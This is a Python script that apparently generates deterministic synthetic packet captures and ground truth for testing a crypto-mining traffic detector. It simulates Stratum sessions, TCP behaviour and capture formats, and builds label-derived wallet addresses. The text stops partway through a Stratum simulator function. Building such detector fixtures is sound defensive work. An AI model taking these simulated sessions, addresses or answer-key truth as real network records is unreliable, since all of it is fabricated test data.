#!/usr/bin/env python3
"""Generate minesweep's bundled sample captures and their ground truth, deterministically.

Run ``python pcaps/make_samples.py [--out pcaps/]``. Every run writes byte-identical files: all
randomness comes from ``random.Random`` instances with fixed seeds, timestamps are fixed epochs
plus simulated offsets, and TCP sequence numbers, IP ids, MAC addresses and gzip headers are set
explicitly (no wall clock, no host state).

What is simulated
-----------------
* One miner per protocol dialect with a TRUE hashrate ``H`` and a pool share difficulty. Share
  times are a Poisson process of rate ``H / work_per_share`` (restarted, memorylessly, when the
  difficulty changes). Work per share follows the conventions in ``WORK_CONVENTIONS``.
* Message lines copied in shape from real miners and pools (cgminer/bmminer, EWBF + flypool,
  NBMiner + NiceHash EthereumStratum/1.0.0, Claymore eth-proxy, XMRig 6.x and 2.x, bfgminer
  getblocktemplate, cgminer getwork + slush's ``X-Stratum`` header).
* TCP with handshakes, FINs, delayed/pure ACKs, several messages per segment, messages split over
  segments, a lost-and-retransmitted submit, out-of-order delivery, an overlapping (repacketised)
  retransmission, a capture that starts mid-session, IPv4 fragments and an IPv6 extension header.
* Containers and link types: pcap LE/BE, µs/ns, pcapng with two interfaces of different link
  types, gzip, Ethernet, 802.1Q, QinQ, Linux SLL and SLL2, raw IP and BSD null loopback.
* Hard negatives next to the miners: web3/Zabbix/echo/wallet JSON-RPC, HTTP, DNS, TLS records and
  a long-lived chat-like JSON websocket flow.
* A campus (``campus.pcapng`` + ``campus-registry.csv``): units on VLANs, a GPU farm on one account,
  an ASIC in a state-owned enterprise, a hijacked government server (masscan-style SYN sweep,
  an RCE request, script and ELF downloads, XMRig on port 80), the same wallet on a scanning
  hospital server, a home miner; the truth names each host's unit, verdict and signals.
* Encrypted mining (``encrypted-evasive.pcap``): TLS 1.2 and 1.3 handshakes with real structure
  (ClientHello profiles, DER certificate chains, ServerHello versions) followed by application-
  data records sized from the plaintext a dialect simulator wrote, so the hidden shares are known;
  Stratum V2 sized per the spec (64 -> 234-byte Noise NX acts, 22 + payload + 16-byte frames).

Public functions: ``build_all(out_dir) -> dict`` (writes every file, returns the truth document)
and ``main(argv) -> int`` (the command line). Adding a file never changes the others: each
builder draws from its own seeded ``random.Random``.
"""

from __future__ import annotations

import argparse
import base64
import calendar
import csv
import email.utils
import gzip
import hashlib
import heapq
import io
import ipaddress
import json
import math
import random
import struct
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from fractions import Fraction
from pathlib import Path
from typing import Any

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP, TCP, UDP, fragment
from scapy.layers.inet6 import IPv6, IPv6ExtHdrHopByHop, PadN
from scapy.packet import Packet, Raw

GENERATOR = "pcaps/make_samples.py"
TRUTH_VERSION = 2

# Work (hashes, or Equihash solutions) behind one share, per dialect; recorded in truth.json.
WORK_CONVENTIONS = {
    "stratum/sha256d": "D * 2**32 (Bitcoin diff-1 target 0x00000000ffff0000...; ckpool stratifier.c)",
    "stratum/scrypt": "D * 2**16 (node-stratum-pool lib/algoProperties.js multiplier for scrypt)",
    "stratum/equihash": "2**256 / target from mining.set_target (each solution's hash is tested "
    "against the target, so this is the expected number of solutions per share; unit Sol/s)",
    "ethstratum": "D * 2**32 (NiceHash EthereumStratum/1.0.0: difficulty 1 = target 0x00000000ffff...)",
    "ethproxy": "2**256 / target, target = third element of the eth_getWork result "
    "(open-ethereum-pool util/util.go)",
    "monero": "(2**64-1) // t64 with t64 = (2**64-1) // ((2**32-1) // t32) for a 4-byte LE target "
    "(xmrig Job.cpp); b88d0600 -> 10000",
    "gbt": "2**256 / (target + 1); getblocktemplate target is big-endian hex, getwork target is "
    "little-endian hex (ffff...ff00000000 = difficulty 1 = 2**32 hashes)",
}

DIALECTS = ("stratum", "ethstratum", "ethproxy", "monero", "gbt")

M64 = (1 << 64) - 1
M32 = (1 << 32) - 1
NS = 1_000_000_000


# ----------------------------------------------------------------------------------------------
# small helpers


def hx(rng: random.Random, nbytes: int) -> str:
    """Random lowercase hex string of ``nbytes`` bytes."""
    return rng.getrandbits(8 * nbytes).to_bytes(nbytes, "big").hex()


def jdump(obj: Any, compact: bool = True) -> str:
    """JSON text as miners write it: compact (rapidjson, pools) or spaced (cgminer, python)."""
    if compact:
        return json.dumps(obj, separators=(",", ":"))
    return json.dumps(obj)


def line(obj: Any, compact: bool = True, eol: str = "\n") -> bytes:
    return (jdump(obj, compact) + eol).encode()


def epoch(y: int, mo: int, d: int, h: int, mi: int, s: int) -> int:
    return calendar.timegm((y, mo, d, h, mi, s, 0, 0, 0))


def monero_target(diff: int) -> str:
    """4-byte little-endian target a nodejs-pool style pool sends for ``diff``."""
    t32 = ((1 << 256) - 1) // diff >> 224
    return t32.to_bytes(4, "little").hex()


def monero_diff(target_hex: str) -> int:
    """Difficulty xmrig derives from a 4-byte target (Job.cpp/Job.h)."""
    t32 = int.from_bytes(bytes.fromhex(target_hex), "little")
    t64 = M64 // (M32 // t32)
    return M64 // t64


def work_from_target(target: int, plus_one: bool = False) -> float:
    return float(Fraction(1 << 256, target + (1 if plus_one else 0)))


def poisson_shares(
    rng: random.Random, start: float, end: float, hashrate: float, schedule: list[tuple[float, float]]
) -> list[tuple[float, float]]:
    """Share times in [start, end) for a Poisson process of rate hashrate/work.

    ``schedule`` lists (from_time, work_per_share), sorted; the process restarts at each change.
    """
    out: list[tuple[float, float]] = []
    idx = max(i for i, (t_from, _) in enumerate(schedule) if t_from <= start)
    t = start
    while True:
        work = schedule[idx][1]
        boundary = schedule[idx + 1][0] if idx + 1 < len(schedule) else end
        boundary = min(boundary, end)
        t_next = t + rng.expovariate(hashrate / work)
        if t_next >= boundary:
            if boundary >= end:
                return out
            t = boundary
            idx += 1
            continue
        out.append((t_next, work))
        t = t_next


def pick_rejects(rng: random.Random, n: int, k: int) -> set[int]:
    return set(rng.sample(range(5, n), k))


def pick_quiet(shares: list[tuple[float, float]], want: int, before: float = 0.5, after: float = 1.6) -> int:
    """First share index >= ``want`` with no other share ``before`` s earlier or ``after`` s later.

    Retransmission plans need that quiet time so no other submit overtakes the resent one.
    """
    for k in range(max(1, want), len(shares) - 1):
        if shares[k][0] - shares[k - 1][0] > before and shares[k + 1][0] - shares[k][0] > after:
            return k
    raise RuntimeError("no quiet share for a retransmission plan")


# ----------------------------------------------------------------------------------------------
# synthetic but well-formed wallet addresses (valid checksums; derived from a label, nobody's funds)

B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def b58encode(data: bytes) -> str:
    n = int.from_bytes(data, "big")
    out = ""
    while n:
        n, r = divmod(n, 58)
        out = B58[r] + out
    return "1" * (len(data) - len(data.lstrip(b"\0"))) + out


def base58check(version: bytes, label: str) -> str:
    payload = version + hashlib.sha256(label.encode()).digest()[:20]
    return b58encode(payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4])


def _keccak_tables() -> tuple[list[int], list[list[int]]]:
    def rc_bit(t: int) -> int:
        r = 1
        for _ in range(t % 255):
            r <<= 1
            if r & 0x100:
                r ^= 0x171
        return r & 1

    rc = [sum(rc_bit(j + 7 * i) << ((1 << j) - 1) for j in range(7)) for i in range(24)]
    rot = [[0] * 5 for _ in range(5)]
    x, y = 1, 0
    for t in range(24):
        rot[x][y] = ((t + 1) * (t + 2) // 2) % 64
        x, y = y, (2 * x + 3 * y) % 5
    return rc, rot


KECCAK_RC, KECCAK_ROT = _keccak_tables()


def keccak256(data: bytes) -> bytes:
    """Keccak-256 with the original (pre-SHA-3) padding, as Monero uses for address checksums."""
    rate = 136
    buf = bytearray(data) + b"\x01"
    buf += b"\0" * ((-len(buf)) % rate)
    buf[-1] |= 0x80
    a = [[0] * 5 for _ in range(5)]
    rotl = lambda v, n: ((v << n) | (v >> (64 - n))) & M64 if n else v  # noqa: E731
    for off in range(0, len(buf), rate):
        for i in range(rate // 8):
            a[i % 5][i // 5] ^= int.from_bytes(buf[off + 8 * i : off + 8 * i + 8], "little")
        for rc in KECCAK_RC:
            c = [a[x][0] ^ a[x][1] ^ a[x][2] ^ a[x][3] ^ a[x][4] for x in range(5)]
            d = [c[(x - 1) % 5] ^ rotl(c[(x + 1) % 5], 1) for x in range(5)]
            a = [[a[x][y] ^ d[x] for y in range(5)] for x in range(5)]
            b = [[0] * 5 for _ in range(5)]
            for x in range(5):
                for y in range(5):
                    b[y][(2 * x + 3 * y) % 5] = rotl(a[x][y], KECCAK_ROT[x][y])
            a = [[b[x][y] ^ (~b[(x + 1) % 5][y] & b[(x + 2) % 5][y]) for y in range(5)] for x in range(5)]
            a[0][0] ^= rc
    return b"".join(a[i % 5][i // 5].to_bytes(8, "little") for i in range(4))


def monero_address(label: str) -> str:
    """Standard Monero address (network byte 18): keys from the label, keccak checksum, block base58."""
    keys = hashlib.sha256(b"spend:" + label.encode()).digest() + hashlib.sha256(b"view:" + label.encode()).digest()
    data = b"\x12" + keys
    data += keccak256(data)[:4]
    sizes = [0, 2, 3, 5, 6, 7, 9, 10, 11]
    out = ""
    for i in range(0, len(data), 8):
        block = data[i : i + 8]
        enc = b58encode(block).lstrip("1") if block.strip(b"\0") else ""
        out += "1" * (sizes[len(block)] - len(enc)) + enc
    return out


def eth_address(label: str) -> str:
    return "0x" + hashlib.sha256(label.encode()).digest()[:20].hex()


# ----------------------------------------------------------------------------------------------
# capture containers


@dataclass
class Interface:
    linktype: int
    name: str
    tsresol: int = 6  # pcapng if_tsresol exponent (6 = µs, 9 = ns)


@dataclass
class Capture:
    """Packets of one sample file, written as pcap or pcapng."""

    name: str
    fmt: str  # "pcap" or "pcapng"
    interfaces: list[Interface]
    nano: bool = False
    endian: str = "<"
    gz: bool = False
    records: list[tuple[int, int, int, bytes]] = field(default_factory=list)
    _order: int = 0

    def quantize(self, t_ns: int, iface: int) -> int:
        res = 1 if (self.nano if self.fmt == "pcap" else self.interfaces[iface].tsresol == 9) else 1000
        return (t_ns // res) * res

    def add(self, t_ns: int, iface: int, data: bytes) -> int:
        t_ns = self.quantize(t_ns, iface)
        self.records.append((t_ns, self._order, iface, data))
        self._order += 1
        return t_ns

    def sorted_records(self) -> list[tuple[int, int, int, bytes]]:
        return sorted(self.records, key=lambda r: (r[0], r[1]))

    def to_bytes(self) -> bytes:
        raw = self._pcap() if self.fmt == "pcap" else self._pcapng()
        if not self.gz:
            return raw
        buf = io.BytesIO()
        with gzip.GzipFile(filename="", mode="wb", fileobj=buf, compresslevel=9, mtime=0) as gzf:
            gzf.write(raw)
        return buf.getvalue()

    def _pcap(self) -> bytes:
        e = self.endian
        magic = 0xA1B23C4D if self.nano else 0xA1B2C3D4
        out = [struct.pack(e + "IHHiIII", magic, 2, 4, 0, 0, 262144, self.interfaces[0].linktype)]
        for t_ns, _, _, data in self.sorted_records():
            sec, frac = divmod(t_ns, NS)
            if not self.nano:
                frac //= 1000
            out.append(struct.pack(e + "IIII", sec, frac, len(data), len(data)))
            out.append(data)
        return b"".join(out)

    def _pcapng(self) -> bytes:
        def opt(code: int, value: bytes) -> bytes:
            pad = (-len(value)) % 4
            return struct.pack("<HH", code, len(value)) + value + b"\0" * pad

        def block(btype: int, body: bytes) -> bytes:
            total = 12 + len(body)
            return struct.pack("<II", btype, total) + body + struct.pack("<I", total)

        shb_opts = opt(4, f"minesweep {GENERATOR}".encode()) + opt(0, b"")
        out = [block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1) + shb_opts)]
        for itf in self.interfaces:
            opts = opt(2, itf.name.encode())
            if itf.tsresol != 6:
                opts += opt(9, bytes([itf.tsresol]))
            opts += opt(0, b"")
            out.append(block(1, struct.pack("<HHI", itf.linktype, 0, 262144) + opts))
        for t_ns, _, iface, data in self.sorted_records():
            units = t_ns if self.interfaces[iface].tsresol == 9 else t_ns // 1000
            pad = (-len(data)) % 4
            body = struct.pack("<IIIII", iface, units >> 32, units & 0xFFFFFFFF, len(data), len(data))
            out.append(block(6, body + data + b"\0" * pad))
        return b"".join(out)


# ----------------------------------------------------------------------------------------------
# link layers: each returns the bytes placed before the IP header, per direction


LinkFn = Callable[[int, bytes, bool], bytes]  # (side 0=client->server 1=server->client, ip, v6)


def mac(s: str) -> bytes:
    return bytes.fromhex(s.replace(":", ""))


def ether_link(client_mac: str, gw_mac: str, vlans: tuple[tuple[int, int], ...] = ()) -> LinkFn:
    """Ethernet II, optionally with 802.1Q (0x8100) / 802.1ad QinQ (0x88a8) tags."""

    def fn(side: int, ip: bytes, v6: bool) -> bytes:
        src, dst = (mac(client_mac), mac(gw_mac)) if side == 0 else (mac(gw_mac), mac(client_mac))
        tags = b"".join(struct.pack(">HH", tpid, vid) for tpid, vid in vlans)
        return dst + src + tags + struct.pack(">H", 0x86DD if v6 else 0x0800)

    return fn


def sll_link(client_mac: str, gw_mac: str, loopback: bool = False) -> LinkFn:
    """Linux cooked capture v1 (LINKTYPE_LINUX_SLL = 113)."""

    def fn(side: int, ip: bytes, v6: bool) -> bytes:
        proto = 0x86DD if v6 else 0x0800
        if loopback:
            return struct.pack(">HHH8sH", 0 if side else 4, 772, 6, b"\0" * 8, proto)
        pkttype, addr = (4, mac(client_mac)) if side == 0 else (0, mac(gw_mac))
        return struct.pack(">HHH8sH", pkttype, 1, 6, addr + b"\0\0", proto)

    return fn


def sll2_link(client_mac: str, gw_mac: str, ifindex: int) -> LinkFn:
    """Linux cooked capture v2 (LINKTYPE_LINUX_SLL2 = 276)."""

    def fn(side: int, ip: bytes, v6: bool) -> bytes:
        proto = 0x86DD if v6 else 0x0800
        pkttype, addr = (4, mac(client_mac)) if side == 0 else (0, mac(gw_mac))
        return struct.pack(">HHIHBB8s", proto, 0, ifindex, 1, pkttype, 6, addr + b"\0\0")

    return fn


def raw_link(side: int, ip: bytes, v6: bool) -> bytes:
    """LINKTYPE_RAW (101): the packet starts with the IP header."""
    return b""


def null_link(side: int, ip: bytes, v6: bool) -> bytes:
    """BSD loopback / macOS utun (LINKTYPE_NULL = 0): AF in host (little-endian) order."""
    return struct.pack("<I", 30 if v6 else 2)


# ----------------------------------------------------------------------------------------------
# TCP flow simulation


@dataclass
class Msg:
    """One application write: ``data`` sent by ``side`` (0 client, 1 server) at time ``t``."""

    t: float
    side: int
    data: bytes
    plan: str = "normal"  # normal | reorder | lost_retx | overlap | split | frag
    arg: Any = None
    tag: int | None = None  # index of the share this write submits (truth timestamps follow it)


class Host:
    def __init__(self, ip: str, ttl: int, ipid: int, window: int) -> None:
        self.ip = ip
        self.ttl = ttl
        self.ipid = ipid
        self.window = window

    def next_id(self) -> int:
        self.ipid = (self.ipid + 1) & 0xFFFF
        return self.ipid


class Flow:
    """A TCP connection between a client and a server, emitted into a Capture in time order."""

    SYN_OPTS = [("MSS", 1460), ("NOP", None), ("WScale", 7), ("NOP", None), ("NOP", None), ("SAckOK", b"")]

    def __init__(
        self,
        cap: Capture,
        base_ns: int,
        iface: int,
        link: LinkFn,
        client: Host,
        cport: int,
        server: Host,
        sport: int,
        rng: random.Random,
        rtt: float,
        mss: int = 1460,
        client_hbh: bool = False,
    ) -> None:
        self.cap, self.base_ns, self.iface, self.link = cap, base_ns, iface, link
        self.hosts = (client, server)
        self.ports = (cport, sport)
        self.rtt, self.mss = rtt, mss
        self.v6 = ":" in client.ip
        self.client_hbh = client_hbh
        self.snd_nxt = [rng.getrandbits(32), rng.getrandbits(32)]
        self.snd_max = list(self.snd_nxt)  # highest sequence number actually put on the wire
        self.rcv_nxt = [self.snd_nxt[1], self.snd_nxt[0]]
        self.received: list[list[tuple[int, int]]] = [[], []]  # intervals each side has received
        self.ack_delay = (0.0004, rtt + 0.04)  # capture next to the client; server delays ACKs 40 ms
        self.pending_ack: list[float | None] = [None, None]
        self.last_ack_sent = [-1, -1]
        self.first_ts: int | None = None
        self.last_ts: int | None = None
        self.packets = 0

    # -- packet emission
    def _emit(self, t: float, side: int, flags: str, seq: int, payload: bytes = b"", frag: int = 0) -> None:
        src, dst = self.hosts[side], self.hosts[1 - side]
        sp, dp = self.ports[side], self.ports[1 - side]
        ack = self.rcv_nxt[side] if "A" in flags else 0
        opts = self.SYN_OPTS if "S" in flags else []
        tcp = TCP(sport=sp, dport=dp, seq=seq & M32, ack=ack & M32, flags=flags, window=src.window, options=opts)
        if payload:
            tcp = tcp / Raw(payload)
        pkts: list[Packet]
        if self.v6:
            ip6 = IPv6(src=src.ip, dst=dst.ip, hlim=src.ttl, fl=0)
            if side == 0 and self.client_hbh:
                pkts = [ip6 / IPv6ExtHdrHopByHop(options=[PadN(optdata=b"\0\0\0\0")]) / tcp]
            else:
                pkts = [ip6 / tcp]
        else:
            ip4 = IP(src=src.ip, dst=dst.ip, id=src.next_id(), ttl=src.ttl, flags=0 if frag else "DF")
            pkts = list(fragment(ip4 / tcp, fragsize=frag)) if frag else [ip4 / tcp]
        self.snd_max[side] = max(self.snd_max[side], seq + len(payload) + (1 if ("S" in flags or "F" in flags) else 0))
        for i, p in enumerate(pkts):
            ipb = bytes(p)
            t_ns = self.cap.add(self.base_ns + round(t * NS) + i * 3000, self.iface, self.link(side, ipb, self.v6) + ipb)
            self.first_ts = t_ns if self.first_ts is None else min(self.first_ts, t_ns)
            self.last_ts = t_ns if self.last_ts is None else max(self.last_ts, t_ns)
            self.packets += 1
        if "A" in flags:
            self.last_ack_sent[side] = self.rcv_nxt[side]
            self.pending_ack[side] = None

    def _deliver(self, receiver: int, lo: int, hi: int) -> bool:
        """Record bytes [lo, hi) at ``receiver``; return True if they arrived out of order."""
        ooo = lo > self.rcv_nxt[receiver]
        self.received[receiver].append((lo, hi))
        moved = True
        while moved:
            moved = False
            for a, b in self.received[receiver]:
                if a <= self.rcv_nxt[receiver] < b:
                    self.rcv_nxt[receiver] = b
                    moved = True
        self.received[receiver] = [(a, b) for a, b in self.received[receiver] if b > self.rcv_nxt[receiver]]
        return ooo

    # -- the event loop
    def run(self, msgs: list[Msg], open_at: float | None, close_at: float | None, close_side: int = 0) -> None:
        heap: list[tuple[float, int, str, tuple[Any, ...]]] = []
        n = 0

        def push(t: float, kind: str, *args: Any) -> None:
            nonlocal n
            heapq.heappush(heap, (t, n, kind, args))
            n += 1

        if open_at is not None:
            push(open_at, "syn")
            if msgs and min(m.t for m in msgs) < open_at + self.rtt + 0.0002:
                raise RuntimeError("a write is scheduled before the TCP handshake completes")
        for m in sorted(msgs, key=lambda m: m.t):
            push(m.t, "msg", m)
        if close_at is not None:
            push(close_at, "fin", close_side)

        while heap:
            t, _, kind, args = heapq.heappop(heap)
            # delayed ACKs due before this event go out first, acknowledging what arrived so far
            for s in (0, 1):
                pa = self.pending_ack[s]
                if pa is not None and pa <= t:
                    self._emit(pa, s, "A", self.snd_max[s])
            if kind == "dupack":
                (s,) = args
                self._emit(t, s, "A", self.snd_max[s])
                continue
            if kind == "syn":
                c, s_ = self.snd_nxt
                self._emit(t, 0, "S", c)
                self.rcv_nxt[1] = c + 1
                self._emit(t + self.rtt, 1, "SA", s_)
                self.rcv_nxt[0] = s_ + 1
                self._emit(t + self.rtt + 0.00012, 0, "A", c + 1)
                self.snd_nxt = [c + 1, s_ + 1]
                continue
            if kind == "fin":
                (s,) = args
                o = 1 - s
                d = self.rtt if s == 0 else 0.0004
                self._emit(t, s, "FA", self.snd_nxt[s])
                self.snd_nxt[s] += 1
                self.rcv_nxt[o] = self.snd_nxt[s]
                self._emit(t + d, o, "FA", self.snd_nxt[o])
                self.snd_nxt[o] += 1
                self.rcv_nxt[s] = self.snd_nxt[o]
                self._emit(t + d + 0.0002, s, "A", self.snd_nxt[s])
                heap.clear()
                continue
            if kind == "seg":
                side, lo, hi, data, base, lost, frag = args
                self._emit(t, side, "PA", lo, data[lo - base : hi - base], frag)
                if not lost:
                    ooo = self._deliver(1 - side, lo, hi)
                    r = 1 - side
                    if ooo:
                        push(t + 0.00008, "dupack", r)
                    elif self.pending_ack[r] is None:
                        self.pending_ack[r] = t + self.ack_delay[r]
                continue
            (m,) = args
            self._schedule(m, push)
        for s in (0, 1):
            pa = self.pending_ack[s]
            if pa is not None:
                self._emit(pa, s, "A", self.snd_max[s])

    def _schedule(self, m: Msg, push: Callable[..., None]) -> None:
        side, data = m.side, m.data
        base = self.snd_nxt[side]
        self.snd_nxt[side] += len(data)
        L = len(data)
        g = 0.000015
        segs: list[tuple[float, int, int, bool, int]] = []  # (dt, lo, hi, lost, frag)
        if m.plan == "reorder":  # two segments, the second overtakes the first
            a = m.arg
            segs = [(0.0, a, L, False, 0), (0.00035, 0, a, False, 0)]
        elif m.plan == "lost_retx":  # whole message lost after the capture point, resent after RTO
            segs = [(0.0, 0, L, True, 0), (m.arg, 0, L, False, 0)]
        elif m.plan == "overlap":  # [0:a] ok, [a:b] lost, then [a:L] resent repacketised
            a, b, rto = m.arg
            segs = [(0.0, 0, a, False, 0), (g, a, b, True, 0), (rto, a, L, False, 0)]
        elif m.plan == "split":  # explicit cut points (partial writes)
            cuts = [0, *m.arg, L]
            segs = [(i * 0.0009, cuts[i], cuts[i + 1], False, 0) for i in range(len(cuts) - 1)]
        else:
            frag = m.arg if m.plan == "frag" else 0
            cuts = list(range(0, L, self.mss)) + [L]
            segs = [(i * g, cuts[i], cuts[i + 1], False, frag) for i in range(len(cuts) - 1)]
        for dt, lo, hi, lost, frag in segs:
            push(m.t + dt, "seg", side, base + lo, base + hi, data, base, lost, frag)


def space_msgs(msgs: list[Msg], gap: float = 0.002) -> list[Msg]:
    """Keep writes from one side at least ``gap`` apart so segments never interleave.

    A write is moved by at most ``gap``: larger moves would reorder it after its own response.
    """
    out = sorted(msgs, key=lambda m: m.t)
    last = [-1e9, -1e9]
    for m in out:
        if m.t < last[m.side] + gap:
            if last[m.side] + gap - m.t > gap + 1e-9:
                raise RuntimeError(f"write at {m.t:.6f} collides with a retransmission plan")
            m.t = last[m.side] + gap
        last[m.side] = m.t + (1.5 if m.plan in ("lost_retx", "overlap") else 0.0)
    return out


def udp_packet(
    cap: Capture, base_ns: int, iface: int, link: LinkFn, t: float, side: int,
    src: Host, dst: Host, sport: int, dport: int, payload: Packet | bytes,
) -> None:
    v6 = ":" in src.ip
    if v6:
        p: Packet = IPv6(src=src.ip, dst=dst.ip, hlim=src.ttl) / UDP(sport=sport, dport=dport) / payload
    else:
        p = IP(src=src.ip, dst=dst.ip, id=src.next_id(), ttl=src.ttl) / UDP(sport=sport, dport=dport) / payload
    b = bytes(p)
    cap.add(base_ns + round(t * NS), iface, link(side, b, v6) + b)


def dns_exchange(
    cap: Capture, base_ns: int, iface: int, link: LinkFn, t: float, client: Host, resolver: Host,
    cport: int, qid: int, name: str, qtype: str, answers: list[str], rtt: float = 0.012,
) -> dict[str, Any]:
    q = DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype=qtype))
    udp_packet(cap, base_ns, iface, link, t, 0, client, resolver, cport, 53, q)
    an = [DNSRR(rrname=name, type=qtype, ttl=300, rdata=a) for a in answers]
    r = DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype), an=an)
    udp_packet(cap, base_ns, iface, link, t + rtt, 1, resolver, client, 53, cport, r)
    return {"kind": "dns", "client": client.ip, "client_port": cport, "server": resolver.ip,
            "server_port": 53, "proto": "udp", "query": name, "qtype": qtype, "answers": answers,
            "ts": (base_ns + round(t * NS)) / NS}


# ----------------------------------------------------------------------------------------------
# session bookkeeping shared by the dialect simulators


@dataclass
class SessionLog:
    """Ground truth accumulated while a dialect simulator writes its messages."""

    shares: list[tuple[float, float, bool]] = field(default_factory=list)  # (t, work, accepted)
    difficulty: list[dict[str, Any]] = field(default_factory=list)
    claimed: list[float] = field(default_factory=list)
    retransmitted_submits: int = 0
    extra: dict[str, Any] = field(default_factory=dict)

    def diff_change(self, t: float, *, observed: bool = True, difficulty: float | None = None,
                    target: str | None = None, work: float, message: str | None) -> None:
        self.difficulty.append({"t": t, "difficulty": difficulty, "target": target,
                                "work_per_share": work, "observed": observed, "message": message})


def truth_session(flow: Flow, log: SessionLog, base_ns: int, **kw: Any) -> dict[str, Any]:
    client, server = flow.hosts
    acc = [s for s in log.shares if s[2]]
    rej = [s for s in log.shares if not s[2]]
    to_ts = lambda t: (base_ns + round(t * NS)) / NS  # noqa: E731
    sess: dict[str, Any] = {
        "client": client.ip,
        "client_port": flow.ports[0],
        "server": server.ip,
        "server_port": flow.ports[1],
        "transport": "tcp",
        "ip_version": 6 if flow.v6 else 4,
    }
    sess.update(kw)
    sess.update({
        "shares_submitted": len(log.shares),
        "accepted": len(acc),
        "rejected": len(rej),
        "retransmitted_submits": log.retransmitted_submits,
        "accepted_work": sum(w for _, w, _ in acc),
        "submitted_work": sum(w for _, w, _ in log.shares),
        "first_share_ts": to_ts(log.shares[0][0]) if log.shares else None,
        "last_share_ts": to_ts(log.shares[-1][0]) if log.shares else None,
        "difficulty_history": [
            {**{k: v for k, v in d.items() if k != "t"}, "ts": to_ts(d["t"])} for d in log.difficulty
        ],
        "difficulty_observable": any(d["observed"] for d in log.difficulty),
        "first_ts": flow.first_ts / NS if flow.first_ts is not None else None,
        "last_ts": flow.last_ts / NS if flow.last_ts is not None else None,
        "packets": flow.packets,
    })
    if log.claimed:
        sess["claimed_hashrate_reports"] = len(log.claimed)
        sess["claimed_hashrate_mean"] = sum(log.claimed) / len(log.claimed)
    sess.update(log.extra)
    return sess


def respond_time(rng: random.Random, t: float, rtt: float) -> float:
    return t + rtt + rng.uniform(0.002, 0.015)


# ----------------------------------------------------------------------------------------------
# Stratum v1, SHA-256d / scrypt (cgminer, bmminer) and the mid-session variant


def chain_height(coin: str, ntime: int) -> int:
    """Approximate block height at ``ntime`` (anchored at 2021-06-08: BTC 687000, LTC 2070000)."""
    anchor = 1623114800
    return 687000 + (ntime - anchor) // 600 if coin == "btc" else 2070000 + (ntime - anchor) // 150


def btc_notify(rng: random.Random, job_id: str, prevhash: str, ntime: int, clean: bool, nbits: str,
               branches: int, coin: str = "btc", tag: bytes | None = None) -> dict[str, Any]:
    if tag is None:
        tag = b"/F2Pool/" if coin == "btc" else b"/ViaBTC/"
    height = chain_height(coin, ntime)
    hb = height.to_bytes(3, "little")
    coinb1 = ("01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff"
              + f"{4 + len(tag) + 8 + 8:02x}03{hb.hex()}" + tag.hex() + hx(rng, 4))
    coinb2 = ("ffffffff02" + hx(rng, 8) + "1976a914" + hx(rng, 20) + "88ac"
              + "0000000000000000266a24aa21a9ed" + hx(rng, 32) + "00000000")
    return {"id": None, "method": "mining.notify", "params": [
        job_id, prevhash, coinb1, coinb2, [hx(rng, 32) for _ in range(branches)],
        "20000000", nbits, f"{ntime:08x}", clean]}


def sim_stratum_sha(
    rng: random.Random, *, start: float, end: float, hashrate: float, diffs: list[tuple[float, int]],
    algo: str, agent: str | None, login: str, rtt: float, mid_session: bool = False,
    version_rolling: bool = False, server_eol: str = "\n", reorder_notify_at: int | None = None,
    retx_share_at: int | None = None, nbits: str = "170e9a6a", coin: str = "btc",
    epoch0: int = 0, coinbase_tag: str | None = None,
) -> tuple[list[Msg], SessionLog]:
    """A cgminer-family miner on a Stratum v1 pool (SHA-256d: D*2^32, scrypt: D*2^16).

    ``diffs`` is [(t, D), ...]; the first entry is the difficulty at session start (sent right
    after mining.subscribe, or unobserved when ``mid_session``), later entries are vardiff changes
    sent as mining.set_difficulty + a clean mining.notify in one segment. ``coinbase_tag`` replaces
    the default pool tag written into the coinbase (/F2Pool/ for BTC, /ViaBTC/ for LTC).
    """
    mult = 2 ** 32 if algo == "sha256d" else 2 ** 16
    msgs: list[Msg] = []
    log = SessionLog()
    default_tag = "/F2Pool/" if coin == "btc" else "/ViaBTC/"  # as btc_notify writes it
    log.extra["coinbase_tag"] = coinbase_tag if coinbase_tag is not None else default_tag
    C, S = 0, 1
    spaced = lambda o: line(o, compact=False)  # noqa: E731  cgminer's printf formats
    pool = lambda o: line(o, compact=True, eol=server_eol)  # noqa: E731
    D0 = diffs[0][1]
    t = start
    cid = 0
    first_prefix = b""
    if not mid_session:
        if version_rolling:
            msgs.append(Msg(t, C, spaced({"id": cid, "method": "mining.configure", "params": [
                ["version-rolling"], {"version-rolling.mask": "1fffe000", "version-rolling.min-bit-count": 2}]})))
            tr = respond_time(rng, t, rtt)
            msgs.append(Msg(tr, S, pool({"id": cid, "result": {"version-rolling": True, "version-rolling.mask": "1fffe000"},
                                         "error": None})))
            cid += 1
            t = tr + rng.uniform(0.001, 0.004)
        msgs.append(Msg(t, C, spaced({"id": cid, "method": "mining.subscribe", "params": [agent]})))
        tr = respond_time(rng, t, rtt)
        res = [[["mining.set_difficulty", hx(rng, 4)], ["mining.notify", hx(rng, 4)]], hx(rng, 4), 4]
        # subscribe result + set_difficulty + first job travel in ONE segment (like bitminter's pool)
        first_prefix = pool({"id": cid, "result": res, "error": None}) + pool(
            {"id": None, "method": "mining.set_difficulty", "params": [D0]})
        first_job_t = tr
        log.diff_change(tr, difficulty=D0, work=float(D0 * mult), message="mining.set_difficulty")
        cid += 1
        t = tr + rng.uniform(0.001, 0.004)
        if version_rolling:
            msgs.append(Msg(t, C, spaced({"id": cid, "method": "mining.extranonce.subscribe", "params": []})))
            tr = respond_time(rng, t, rtt)
            msgs.append(Msg(tr, S, pool({"id": cid, "result": True, "error": None})))
            cid += 1
            t = tr + rng.uniform(0.001, 0.004)
        msgs.append(Msg(t, C, spaced({"id": cid, "method": "mining.authorize", "params": [login, "x"]})))
        tr = respond_time(rng, t, rtt)
        msgs.append(Msg(tr, S, pool({"id": cid, "result": True, "error": None})))
        cid += 1
        share_start = tr + 0.2
    else:
        log.diff_change(start, difficulty=D0, work=float(D0 * mult), message=None, observed=False)
        cid = 1873
        first_job_t = start
        share_start = start + 0.5

